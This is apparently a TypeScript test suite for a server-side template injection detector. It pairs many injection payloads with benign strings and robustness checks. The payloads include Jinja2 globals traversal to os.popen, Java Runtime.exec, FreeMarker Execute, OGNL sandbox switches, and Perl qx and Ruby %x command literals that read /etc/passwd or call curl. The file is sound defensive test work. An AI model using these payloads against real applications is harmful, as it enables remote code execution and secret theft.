import t from 'tap';
import { detectTemplateInjection } from '../../src/detectors/template-injection';
import { charMask } from '../../src/charclass';
import { DETECTORS } from '../../src/detectors/index';
import { verdictDigest, verdictKey, verdictTable, pinnedVerdicts } from '../helpers/verdict-table';

// Test vectors written for this project (not copied from any payload corpus).

/** Each must be detected at confidence `high` with an `ssti.` rule. */
const positives: string[] = [
  // Struts OGNL %{…} and Ruby interpolation running a command.
  "%{new java.lang.ProcessBuilder({'id'}).start()}",
  '#{`id`}',
  '#{%x(id)}',
  // Arithmetic probes in every delimiter family.
  '{{6*9}}',
  '{{ 12 * 12 }}',
  "{{5*'5'}}",
  '{{ 40 + 2 }}',
  '${8*8}',
  '${ 11*11 }',
  '#{9*9}',
  '#{ 3 * 4 }',
  '*{5*5}',
  '@{6*6}',
  '<%= 8*8 %>',
  '<%=9*9%>',
  '<%- 2*21 %>',
  '@(3+4)',
  '@( 6 * 7 )',
  '[[${4*4}]]',
  '[(${5*3})]',
  '__${7*3}__::.x',
  "{% print 'ab' * 3 %}",
  '{%- print 6*7 -%}',
  "{{ 2**10 }}",
  'name={{8*8}}&x=1',
  'Hello {{ 9*9 }}, welcome',
  // Python / Jinja2 object traversal.
  "{{ ''.__class__.__base__.__subclasses__() }}",
  '{{ "".__class__.__mro__[1] }}',
  '{{ ().__class__.__bases__[0] }}',
  "{{ lipsum.__globals__['os'].popen('whoami').read() }}",
  '{{ cycler.__init__.__globals__.os.popen("uname").read() }}',
  '{{ url_for.__globals__.current_app.config }}',
  '{{ get_flashed_messages.__globals__ }}',
  "{{ self._TemplateReference__context.joiner.__init__ }}",
  "{{ request|attr('__class__') }}",
  "{{ x|attr('__init__')|attr('__globals__') }}",
  "{{ ['__','mro','__']|join }}",
  "{{ x|attr('__cla' ~ 'ss__') }}",
  "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{{ c }}{% endfor %}",
  '{% set g = namespace.__init__.__globals__ %}',
  // Privileged template objects.
  '{{config}}',
  '{{ config }}',
  '{{ config.items() }}',
  "{{ config['SECRET_KEY'] }}",
  '{{request}}',
  '{{ request.environ }}'.replace('environ', 'application.__self__'),
  '{{ self }}',
  '{{ settings.SECRET_KEY.lower() }}',
  '{{ app.request.server.all }}',
  '{{ request|attr("application") }}',
  // Literal reflection.
  "{{'abc'.upper()}}",
  "{{ 'x'.toUpperCase() }}",
  "${''.getClass()}",
  '{{"".class.forName("java.lang.Runtime")}}',
  // Java / Spring EL / FreeMarker / Velocity.
  '${T(java.lang.Runtime).getRuntime().exec("id")}',
  "#{T(java.lang.System).getenv()}",
  '*{T(org.apache.commons.io.IOUtils).toString(x)}',
  "${new java.util.Scanner(x).next()}",
  "${pageContext.request.getSession()}",
  '<#assign cmd = "freemarker.template.utility.Execute"?new()>${cmd("ls")}',
  '${"freemarker.template.utility.ObjectConstructor"?new()}',
  '[#assign x = "freemarker.template.utility.Execute"?new()]',
  '${product.getClass().getProtectionDomain()}',
  '#set($rt = $x.getClass().forName("java.lang.Runtime"))',
  '$str.getClass().forName("java.lang.Runtime").getRuntime()',
  '#set($c = $class.inspect("java.lang.Runtime"))',
  // Python code execution.
  "{% import os %}{{ os.popen('ls').read() }}",
  '{% import subprocess %}',
  "{{ os.system('sleep 5') }}",
  "${self.module.cache.util.os.system('id')}",
  "{{ x.__init__ }}",
  // JavaScript engines (Nunjucks, Pug, EJS, AngularJS, Handlebars).
  "{{ range.constructor('return process')() }}",
  "{{constructor.constructor('alert(1)')()}}",
  "#{global.process.mainModule.require('child_process').execSync('id')}",
  "<%= process.mainModule.require('fs').readdirSync('/') %>",
  "<%- require('child_process').execSync('id') %>",
  '{{#with "s" as |s|}}{{lookup s "constructor"}}{{/with}}',
  "{{ $on.constructor('x')() }}",
  // Ruby ERB / Slim.
  "<%= system('whoami') %>",
  '<%= `id` %>',
  "<%= IO.popen('ls').readlines %>",
  "<%= File.read('/etc/hosts') %>",
  "<%= Dir.entries('/') %>",
  '<%= %x(uname -a) %>',
  "#{`ls`}".replace('`ls`', "system('ls')"),
  // PHP: Twig and Smarty.
  '{{_self.env.registerUndefinedFilterCallback("system")}}',
  "{{ ['id']|filter('system') }}",
  "{{ ['ls']|map('passthru') }}",
  "{{ ['id', 1]|sort('shell_exec') }}",
  '{$smarty.version}',
  '{php}echo 1;{/php}',
  "{system('ls')}",
  "{if system('id')}{/if}",
  // Razor.
  '@System.Diagnostics.Process.Start("cmd.exe")',
  ' @(System.IO.File.ReadAllText("x"))',
  // Statements.
  '{% if True %}yes{% endif %}',
  '{% if 1 == 1 %}a{% endif %}',
  '{% debug %}',
  "{% include '/etc/passwd' %}",
  "{% include '../../config.py' %}",
  // Inherited property names must not derail the analysis of what follows.
  '{{ toString.x }} {{ 7*7 }}',
  '{{ hasOwnProperty.y }}{{ constructor.constructor("x")() }}',
  '${__proto__.z} ${3*3}',
];

/** Each must NOT be detected at `high` (most must return undefined or low). */
const negatives: string[] = [
  'Hello %{name}, welcome',
  '50%{color:red}',
  // Hard benign strings from the project brief.
  "O'Brien",
  "it's 5 o'clock",
  'salt; pepper',
  'Tom & Jerry',
  'a < b and c > d',
  '<3',
  'select your size',
  'drop me a line; or call',
  'rm -rf is a dangerous command',
  'docs/readme.md',
  'https://example.com/path?x=1',
  'jane.doe@example.com',
  '{"a": {"b": [1, 2, 3]}}',
  '{"name":"John Doe","age":"30","email":"johndoe@example.com"}',
  '[{"id":1},{"id":2}]',
  '**bold** and _italic_ and `code`',
  'Crème brûlée für Zoë',
  '+1 (555) 010-0000',
  '$5 & up',
  'Prices from $5 to $50',
  'It costs $5 (about ${ in markdown',
  'Use ${ to start an interpolation',
  '${',
  '{{',
  '}}',
  '{{}}',
  // Placeholders: at most low.
  '{{name}}',
  'Hello {{ user.first_name }}, you have {{count}} new messages',
  '{{ item.price | currency }}',
  '{{ count, number }}',
  '${price}',
  'Total: ${order.total}',
  '#{name}',
  '#{user.name}',
  '{$title}',
  '<%= title %>',
  '<%= user.name %>',
  '{{ site.title }}',
  '{{ config.title }}',
  '{{ request.path }}',
  '{{ page.content | markdownify }}',
  '{{#each items}}{{this}}{{/each}}',
  '{{> header}}',
  '{{! a comment with request and config }}',
  '{{{body}}}',
  '{% for item in items %}{{ item }}{% endfor %}',
  '{% if user.is_admin %}Admin{% endif %}',
  '{% block content %}{% endblock %}',
  "{% include 'header.html' %}",
  "{{ url_for('static', filename='style.css') }}",
  '@(Model.Name)',
  '@(item.Price)',
  '${price * quantity}',
  '#{$gutter * 2}',
  '@{ var x = 1; }',
  // Prose, code, CSS, markdown.
  'Use {{variable}} syntax to insert values in templates.',
  'Jinja uses {% %} for statements and {{ }} for expressions.',
  'The template literal `Hello ${name}` interpolates name.',
  'const s = `${a}-${b}`;',
  'function f() { return { a: 1 }; }',
  'if (x) { y(); }',
  '.btn { color: red; } .x > .y { margin: 0 }',
  '@media (max-width: 600px) { .a { display: none } }',
  'Email me @ the office (room 5)',
  'cc @(team) please review',
  'Meeting @(3pm) tomorrow',
  'user@(example).com',
  '#set the table',
  'Step #1 (prepare)',
  'Issue #42 {urgent}',
  'set x = {a: 1}',
  '\\frac{1}{2} + x^{2}',
  '$\\sum_{i=1}^{n} i$',
  '<% if (user) { %>Hi<% } %>',
  '<%# a comment with system %>',
  'Price: $10 {discounted}',
  '{ "$ref": "#/definitions/a" }',
  '{"$existsor": "foo"}',
  '$hash{key}=[1,2,3]',
  '/[a-z]{1,5}/',
  'HTTP://EXAMPLE.COM/PAGE.HTML#{"COLOR":"#2A1100"}',
  'ICU: {count, plural, one {# item} other {# items}}',
  '{0} of {1} selected',
  'Your code is {code}. It expires in {minutes} minutes.',
  '$HOME/bin:$PATH',
  '${HOME}/.config',
  '${jndi:ldap://example.com/a}',
  'The #{ } syntax interpolates in Ruby.',
  'We charge $5*3 for three',
  'a {{ b',
  'x }} y {{ z',
  '{{ "hello" }}',
  '{{ 42 }}',
  '${5}',
  '${10-20}',
  '{% endif %}',
  'Send to @System admins',
  'value@System.example.com',
];

t.test('names spelled with %c character codes', async (t) => {
  for (const v of [
    '{{ "%c%c%c%c%c%c%c%c%c"|format(95,95,99,108,97,115,115,95,95) }}',
    '{{ ()|attr("%c%c%c%c%c%c%c%c%c"|format(95,95,99,108,97,115,115,95,95)) }}',
    "{{ ()|attr('%c%c%c%c%c%c%c%c%c' % (95,95,99,108,97,115,115,95,95)) }}",
    '{{ lipsum|attr("%c%c%c%c%c%c%c%c%c%c%c"|format(95,95,103,108,111,98,97,108,115,95,95)) }}',
  ]) {
    t.equal(detectTemplateInjection(v)?.confidence, 'high', v);
  }
  for (const v of ['{{ "%c%c"|format(97,98) }}', '{{ "%d items"|format(3) }}', '{{ "%s%%"|format(pct) }}', '{{ "%c"|format(65) }}']) {
    t.not(detectTemplateInjection(v)?.confidence, 'high', v);
  }
});

/** Plain placeholders: detected at most `low`. */
const lowAtMost = ['{{name}}', '${price}', '#{name}', '{{ user.email }}', '{{count}} items', '${order.id}'];

t.test('template-injection vectors are detected at high confidence', async (t) => {
  for (const v of positives) {
    const d = detectTemplateInjection(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
    t.ok(d !== undefined && d.rule.startsWith('ssti.'), `rule prefix: ${JSON.stringify(v)}`);
  }
});

t.test('benign values are not high', async (t) => {
  for (const v of negatives) {
    const d = detectTemplateInjection(v);
    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
});

t.test('plain placeholders are at most low', async (t) => {
  for (const v of lowAtMost) {
    const d = detectTemplateInjection(v);
    t.ok(d === undefined || d.confidence === 'low', `low at most: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
  t.equal(detectTemplateInjection('$5 & up'), undefined);
  t.equal(detectTemplateInjection('plain words only'), undefined);
  t.equal(detectTemplateInjection('{"a":1}'), undefined);
});

t.test('rules name the structure', async (t) => {
  const rule = (v: string): string | undefined => detectTemplateInjection(v)?.rule;
  t.equal(rule('{{7*7}}'), 'ssti.arithmetic-probe');
  t.equal(rule("{{ ''.__class__ }}"), 'ssti.object-traversal');
  t.equal(rule('${T(java.lang.Runtime).getRuntime()}'), 'ssti.code-execution');
  t.equal(rule('{{config}}'), 'ssti.context-object');
  t.equal(rule("{{'a'.upper()}}"), 'ssti.literal-reflection');
  t.equal(rule('{% if True %}{% endif %}'), 'ssti.statement');
  t.equal(rule('{{name}}'), 'ssti.placeholder');
  t.equal(detectTemplateInjection('${price * qty}')?.confidence, 'medium');
  t.equal(detectTemplateInjection('{{ config.title }}')?.confidence, 'medium');
});

t.test('reasons are short and do not echo the input', async (t) => {
  const d = detectTemplateInjection('{{ ' + 'a'.repeat(500) + '.__class__ }}');
  t.equal(d?.confidence, 'high');
  t.ok((d?.reason.length ?? 0) < 200);
  t.notMatch(d?.reason ?? '', /a{40}/);
});

t.test('degenerate inputs never throw', async (t) => {
  const odd = ['', '{', '}', '{{', '}}', '{%', '%}', '${', '#{', '<%', '%>', '@(', '@', '#', '$', "{{'", '{{"}}', '{{`', '\ud800{{7*7}}', '{{\u0000}}', '<#assign', '[#', '#set(', '$a.'];
  for (const v of odd) t.doesNotThrow(() => detectTemplateInjection(v), JSON.stringify(v));
});

t.test('adversarial 1 MB inputs return without throwing', async (t) => {
  const MB = 1 << 20;
  const big: Record<string, string> = {
    openBraces: '{'.repeat(MB),
    closeBraces: '}'.repeat(MB),
    doubleOpen: '{{'.repeat(MB / 2),
    dollarBraces: '${'.repeat(MB / 2),
    nested: '${'.repeat(1000) + 'x'.repeat(MB) + '}'.repeat(1000),
    percent: '<%'.repeat(MB / 2),
    statements: '{%'.repeat(MB / 2),
    razor: '@('.repeat(MB / 2),
    velocity: '#set('.repeat(MB / 5),
    refs: '$a.b'.repeat(MB / 4),
    ftl: '<#assign '.repeat(MB / 9),
    quotes: "{{'".repeat(MB / 3),
    probes: '{{7*7}}'.repeat(MB / 7),
    prose: 'Hello {{name}}, total ${price}. '.repeat(MB / 32),
    at: '@'.repeat(MB),
    hashes: '#'.repeat(MB),
    surrogates: '{{' + '\ud800'.repeat(MB) + '}}',
  };
  for (const [name, v] of Object.entries(big)) {
    t.doesNotThrow(() => detectTemplateInjection(v), name);
  }
  t.doesNotThrow(() => detectTemplateInjection('{{ x }} '.repeat((5 * MB) / 7)), '5 MB');
});

t.test('long hostile runs: FreeMarker and Velocity directives after them are still found', async (t) => {
  const rule = (s: string): string => {
    const d = detectTemplateInjection(s);
    return d === undefined ? '-' : `${d.rule}/${d.confidence}`;
  };
  t.equal(rule('&#38;'.repeat(100) + '[#assign ex="freemarker.template.utility.Execute"?new()]'), 'ssti.code-execution/high');
  t.equal(rule('&#38;'.repeat(100) + '<#assign ex="freemarker.template.utility.Execute"?new()>'), 'ssti.code-execution/high');
  t.equal(rule('<#if x>[#if y]'.repeat(3)), 'ssti.statement/low');
  t.equal(rule('&#38;'.repeat(100)), '-');
  t.equal(rule('#'.repeat(100) + '#evaluate($x)'), 'ssti.code-execution/high');
  t.equal(rule('$('.repeat(100) + '$x.getClass().forName("java.lang.Runtime")'), 'ssti.code-execution/high');
  t.equal(rule('$('.repeat(100) + '$_x.getClass()'), 'ssti.code-execution/high');
  t.equal(rule('$$$$$$$$$$$$$$$$$$$$$$$$$$$$$$$$$$$$$$$$$x.getClass()'), 'ssti.code-execution/high');
  t.equal(rule('$('.repeat(100)), '-');
});

t.test('$references: judged wherever a `.` follows them, whatever runs of `$` come before', async (t) => {
  const ref = '$x.getClass().forName("java.lang.Runtime")';
  for (const pre of ['', '$('.repeat(5000), '$'.repeat(3000), '$a $b $c ', '$(' + '.'.repeat(3) + '$('.repeat(100), 'a.b $('.repeat(200)]) {
    t.equal(detectTemplateInjection(pre + ref)?.rule, 'ssti.code-execution', `${pre.slice(0, 12)}… ${ref}`);
  }
  // The dot after the reference, not before it, makes it one.
  t.equal(detectTemplateInjection('a.b $x' + 'getClass()'), undefined);
  t.equal(detectTemplateInjection('$('.repeat(1000) + '$x' + 'getClass()'), undefined);
  // A `.` only before the last `$`: the `$` after it is not read, the one before it is.
  t.equal(detectTemplateInjection('$x.getClass() $y')?.rule, 'ssti.code-execution');
});

t.test('names hidden in escapes, repetition or another parameter; FreeMarker class-loader walks', async (t) => {
  const high = [
    // Python octal, hex and \u escapes inside the literal an attr() filter receives.
    "{{ ()|attr('\\137\\137class\\137\\137') }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    '{{ x|attr("\\u005f\\u005fglobals\\u005f\\u005f") }}',
    // Underscores built by repetition.
    "{{ (''|attr(('_'*2,'class','_'*2)|join)) }}",
    '{{ lipsum|attr(["_"*2,"globals","_"*2]|join) }}',
    // The attribute name arrives in another parameter or a cookie.
    '{{ ()|attr(request.args.c) }}',
    '{{ lipsum|attr(request.cookies.x)|attr(request.cookies.y) }}',
    "{{ ''[request.args.a][request.args.b] }}",
    '{{ lipsum[request.values.g] }}',
    // FreeMarker/Velocity bean walks to a class loader.
    '${object.class.protectionDomain.classLoader}',
    '<#assign cl=article.class.protectionDomain.classLoader>',
    '$x.getProtectionDomain()',
  ];
  for (const v of high) t.equal(detectTemplateInjection(v)?.confidence, 'high', `high: ${v}`);
  const notHigh = [
    '{{ pages[request.args.page] }}',
    '{{ [request.args.x] }}',
    "{{ request.args.get('page', 1) }}",
    'Showing {{ request.args.q }} results',
    "{{ user|attr('name') }}",
    "{{ 'a\\tb' }}",
    '{{ "\\n" ~ name }}',
    '{{ "C:\\\\Users\\\\x" }}',
    "{{ '\\x41\\101' }}",
    '${domain.class.simpleName}',
  ];
  for (const v of notHigh) t.not(detectTemplateInjection(v)?.confidence, 'high', `not high: ${v}`);
});

t.test('OGNL sandbox switches, with or without %{…}; Twig _context', async (t) => {
  const high = [
    "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    '(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)',
    'method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#w=#context.get',
    // Each marker alone, with only the `#` or only the `@` that gates its search.
    'x=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS',
    'user@xwork.MethodAccessor.denyMethodExecution',
    'a#_memberAccess b',
    "{{ _context|keys|join(',') }}",
    '{{ _context }}',
  ];
  for (const v of high) t.equal(detectTemplateInjection(v)?.confidence, 'high', `high: ${v}`);
  const notHigh = [
    'Discount %{percent} applies',
    'See #memberAccess in the docs (@ognl mailing list)',
    'color: #fff; @media print',
    '{{ context.title }}',
  ];
  for (const v of notHigh) t.not(detectTemplateInjection(v)?.confidence, 'high', `not high: ${v}`);
});

t.test('Perl interpolation, Ruby %x and Perl qx command literals, Python format-field walks', async (t) => {
  const high: [string, string][] = [
    // Perl runs the expression inside @{[ … ]} and ${\ … } when it builds the string.
    ["@{[system 'whoami']}", 'ssti.code-execution'],
    ['"Hello @{[ exec "id" ]}"', 'ssti.code-execution'],
    ['@{[`id`]}', 'ssti.code-execution'],
    ['@{[ qx{uname -a} ]}', 'ssti.code-execution'],
    ['@{[ readpipe $x ]}', 'ssti.code-execution'],
    ['@{[ system qw(id) ]}', 'ssti.code-execution'],
    ['@{[ exec @cmd ]}', 'ssti.code-execution'],
    ['${\\ `id`}', 'ssti.code-execution'],
    ["${\\ system 'id'}", 'ssti.code-execution'],
    ['@{[7*7]}', 'ssti.arithmetic-probe'],
    // Ruby %x with any delimiter, Perl qx with braces.
    ['%x(id)', 'ssti.code-execution'],
    ['%x{whoami}', 'ssti.code-execution'],
    ['%x[uname -a]', 'ssti.code-execution'],
    ['%x<cat /etc/hosts>', 'ssti.code-execution'],
    ['%x!id!', 'ssti.code-execution'],
    ['%x(#{params[:c]})', 'ssti.code-execution'],
    ['%x(/usr/bin/id)', 'ssti.code-execution'],
    ['name=%x(id)&x=1', 'ssti.code-execution'],
    ['qx{id}', 'ssti.code-execution'],
    ['qx {curl http://x.example}', 'ssti.code-execution'],
    // Python str.format fields reading a function's globals.
    ['{0.__init__.__globals__}', 'ssti.object-traversal'],
    ['{user.__class__.__init__.__globals__[SECRET_KEY]}', 'ssti.object-traversal'],
    ['Hi {0.__init__.__globals__[app].config!r}', 'ssti.object-traversal'],
  ];
  for (const [v, rule] of high) {
    const d = detectTemplateInjection(v);
    t.equal(d?.confidence, 'high', `high: ${v} -> ${JSON.stringify(d)}`);
    t.equal(d?.rule, rule, `rule: ${v}`);
  }
  const notHigh = [
    'printf("%x(%d)\\n", a, b)',
    'Use %x(hex) or %o(octal) format',
    'value 0x%x (unsigned)',
    '%%x(id)',
    'a%x(id)',
    '%x(id',
    'The Perl idiom "@{[ $obj->name ]}" interpolates a method call',
    'print "Sum: @{[ $a + $b ]}\\n";',
    'print "Path: ${\\ $self->path }\\n";',
    '@{[ $obj->system ]}',
    'Use qx{} or backticks in Perl to capture output',
    'the QX50 {2019} is a good car',
    '$qx{id}',
    'Thymeleaf @{/order/details(id=${orderId})}',
    '"{0.name} {0.email}".format(user)',
    '{user.__class__.__name__}',
    'f"{self.__class__.__mro__}"',
    '{self.__dict__}',
  ];
  for (const v of notHigh) t.not(detectTemplateInjection(v)?.confidence, 'high', `not high: ${v}`);
});

t.test('command literals: decoys before the one that runs do not hide it; floods stay linear', async (t) => {
  for (const pre of ['%x('.repeat(5000), '%x(a) '.repeat(200), 'x'.repeat(5000), '%%x(id) '.repeat(100), 'qx('.repeat(3000), '%x(id '.repeat(50)]) {
    t.equal(detectTemplateInjection(pre + ' %x{id}')?.rule, 'ssti.code-execution', `${pre.slice(0, 12)}… %x{id}`);
    t.equal(detectTemplateInjection(pre + ' qx{whoami}')?.rule, 'ssti.code-execution', `${pre.slice(0, 12)}… qx{whoami}`);
  }
  const MB = 1 << 20;
  for (const v of ['%x('.repeat(MB / 3), 'x'.repeat(MB) + '{', '%'.repeat(MB), 'q'.repeat(MB) + '{', '%x(id '.repeat(MB / 6), 'qx{id '.repeat(MB / 6)]) {
    t.doesNotThrow(() => detectTemplateInjection(v));
  }
  t.equal(detectTemplateInjection('%x(id '.repeat(1000)), undefined, 'never closed');
});

t.test('Velocity directives after entity runs: found when a `(` follows, skipped without one', async (t) => {
  // The directive search runs only when the value has a `(` (every directive needs one after its name).
  const rule = (v: string): string => {
    const d = detectTemplateInjection(v);
    return d === undefined ? '-' : `${d.rule}/${d.confidence}`;
  };
  t.equal(rule('&#38;'.repeat(1000) + '#set($x = $rt.getRuntime().exec("id"))'), 'ssti.code-execution/high');
  t.equal(rule('&#'.repeat(500) + '#evaluate($x)'), 'ssti.code-execution/high');
  t.equal(rule('&#'.repeat(100) + '#foreach($i in $list)'), 'ssti.statement/low');
  t.equal(rule('#if($user.admin)' + '&#'.repeat(50)), 'ssti.statement/low');
  t.equal(rule('#set $x = 1 ' + '&#38;'.repeat(100)), '-');
  t.equal(rule('&#38;'.repeat(5000)), '-');
});

t.test('Perl qx literals with any delimiter, through the engine gate too; paths and words are none (hB, s15)', async (t) => {
  const ssti = DETECTORS.find((d) => d.class === 'ssti')!;
  const literals = [
    'qx/id/', 'qx!id!', "qx'id'", 'qx"whoami"', 'qx<id>', 'qx:id:', 'qx*id*', 'qx^id^', 'qx\\id\\', 'qx|id|', 'qx&id&',
    'qx#id#', 'qx@id@', 'qx~id~', 'qx?id?', 'qx%id%', 'qx /uname -a/', 'x=qx!cat /etc/passwd!;', "print qx'id';",
    'qx/cat \\/etc\\/passwd/',
  ];
  for (const v of literals) {
    const m = charMask(v);
    t.ok((m & ssti.needs) !== 0, `the engine calls ssti for ${v}`);
    const d = detectTemplateInjection(v, m);
    t.equal(d?.rule, 'ssti.code-execution', v);
    t.equal(d?.confidence, 'high', v);
    t.same(detectTemplateInjection(v), d, `same without the mask: ${v}`);
  }
  // A path segment named qx, a closer glued to a word (a syntax error in both languages), a word that
  // holds qx, chat.
  const none = ['/v1/qx/cat/items', 'https://x.example.com/qx/ls/', 'qx/cat/items', '%x(id)foo', 'faqx/id/', 'qx!', 'Toggle qx!', 'qx/ is a shortcut', 'QX/ID/2', "qx'd", 'SKU-1000', "Jane O'Neil", '/orders'];
  for (const v of none) {
    t.equal(detectTemplateInjection(v, charMask(v)), undefined, v);
    t.equal(detectTemplateInjection(v), undefined, `without the mask: ${v}`);
  }
  // Known gap: `-` and `+` are not in the gate (their cost on SKUs, dates and phone numbers). And
  // `qx(id)`, `qx[id]`, `qx.id.` are code-injection's (its gate): none is read here, mask or not.
  for (const v of ['qx-id-', 'qx+id+', 'qx(id)', 'qx[id]', 'qx.id.']) {
    t.equal(detectTemplateInjection(v), undefined, v);
    t.equal(detectTemplateInjection(v, charMask(v)), undefined, `with the mask: ${v}`);
  }
  for (const v of ['qx-id-', 'qx+id+']) t.equal(charMask(v) & ssti.needs, 0, `not gated through: ${v}`);
});

t.test('format-field walks: the remembered `__` search finds every field after braces and earlier `__`', async (t) => {
  const rule = (v: string): string | undefined => detectTemplateInjection(v)?.rule;
  const walk = '{0.__init__.__globals__[app]}';
  for (const pre of ['', '{a} '.repeat(2000), '__ {a} ', '{a__b} {c} ', 'x__ '.repeat(500) + '{q} ', '{k}'.repeat(300) + '__']) {
    t.equal(rule(pre + walk), 'ssti.object-traversal', `${pre.slice(0, 12)}… ${walk}`);
    t.equal(rule(pre + '{user.__class__.__name__}'), undefined, `${pre.slice(0, 12)}… a plain dunder name`);
  }
});

// Pinned verdicts of a seeded table (session 16, dense punctuation): the digest of every verdict
// (rule and confidence) over generated strings that mix this detector's trigger characters, the
// sweep's dense units and attack fragments, as the build before the speed work gave them. A fast
// path that changes any verdict changes the digest (the same table caught a planted change of each
// fast path: scanRazor skipping names of up to five characters).

const SSTI_PIECES = [...'@()._ x^&`]{}$#%'].concat(['@x', '@x(', '@T(', '@IO.popen("id")', '@os.system("id")', '@IO', '@io.x', '@System.Diagnostics.Process.Start("cmd")', '@(1+1)', '@Process.Start(', '@eval(', 'x@@', '@_]', 'a&`@', '{{7*7}}', '${7*7}', 'the fit ']);

t.test('dense punctuation: verdicts pinned on a seeded table (Razor @ runs)', async (t) => {
  const table = verdictTable(16, SSTI_PIECES, 4000);
  t.equal(table.filter((s) => detectTemplateInjection(s) !== undefined).length, 2957, 'findings in the table');
  t.equal(verdictDigest(table.map((s) => verdictKey(detectTemplateInjection(s)))), 'f9d2d01c');
});

// Round 2: scanRazor remembers short names it judged inert (RAZOR_INERT, shared by every call). The
// table mixes inert and dangerous short names with what follows them, and is judged twice: the
// second time every inert name is remembered. The digest is the base build's (cd89112); it caught a
// planted memo that also kept names judged dangerous.
const RAZOR_PIECES = [...'@(). x$_{"\'é'].concat(['@ab(', '@IO(', '@IO.', '@io(', '@os.', '@os(', '@Sys.', '@Dir(', '@ENV(', '@File(', '@ab.cd(', '@a1(', '@eval(', '@exec(', '@app(', '@self.', '@x', '"id")', "'id')", '.popen(', '.Start(', '.system(', '(1)', 'Process', 'System']);

t.test('dense punctuation: Razor names judged once (verdicts pinned, cold and warm)', async (t) => {
  const table = verdictTable(162, RAZOR_PIECES, 3000);
  for (const pass of ['cold', 'warm']) {
    t.equal(table.filter((s) => detectTemplateInjection(s) !== undefined).length, 923, `findings (${pass})`);
    t.equal(verdictDigest(table.map((s) => verdictKey(detectTemplateInjection(s)))), 'd9545fb5', pass);
  }
  t.equal(detectTemplateInjection('@ab( @ab( @IO.popen("id")')?.confidence, 'high');
  t.equal(detectTemplateInjection('@ab('.repeat(4000)), undefined);
});

// Session 17 (dense punctuation, second round): pieces around this round's fast paths. The digest
// is the base build's (7c28b55), verdicts with and without the caller's charMask; it caught the
// change planted in this round's fast path (a scratch differential of the base dist against this
// build, ~300k strings, found no difference).
const S17_PIECES: string[] = ["{", "}", "{{", "}}", "7*7", "${", "#{", "{%", "%}", "&{'", "x", " ", "{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{", "{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{", "constructor", ".__class__", "{{config.__class__}}", "{{7*7}}", "*{", "@{", "{$smarty.version}", "print", "%", "#", "$", "@"];

t.test('dense punctuation: verdicts pinned on a seeded table (session 17 fast paths)', async (t) => {
  const { findings, digest } = pinnedVerdicts(verdictTable(1706, S17_PIECES, 3000), (s) => detectTemplateInjection(s), (s) => detectTemplateInjection(s, charMask(s)));
  t.equal(findings, 1889, 'findings in the table');
  t.equal(digest, '90a9f71f');
  // A full brace stack resumes at the next `}`; no `}` at all, no walk.
  t.equal(detectTemplateInjection("&{'".repeat(20000)), undefined);
  t.equal(detectTemplateInjection(`${'{'.repeat(70)}}}{{7*7}}`)?.rule, detectTemplateInjection('{{7*7}}')?.rule);
});
